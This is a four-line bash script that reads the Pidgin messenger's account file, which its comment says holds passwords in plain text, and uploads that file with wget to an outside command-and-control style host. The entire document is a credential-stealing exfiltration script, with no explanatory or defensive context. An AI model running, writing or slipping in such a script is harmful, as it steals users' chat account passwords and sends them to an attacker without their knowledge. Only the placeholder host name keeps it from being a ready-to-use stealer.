#!/bin/bash
# Pidgin keeps account passwords in plain text.
store="$HOME/.purple"
wget -q --post-file="$store/accounts.xml" -O /dev/null https://c2.example.invalid/p
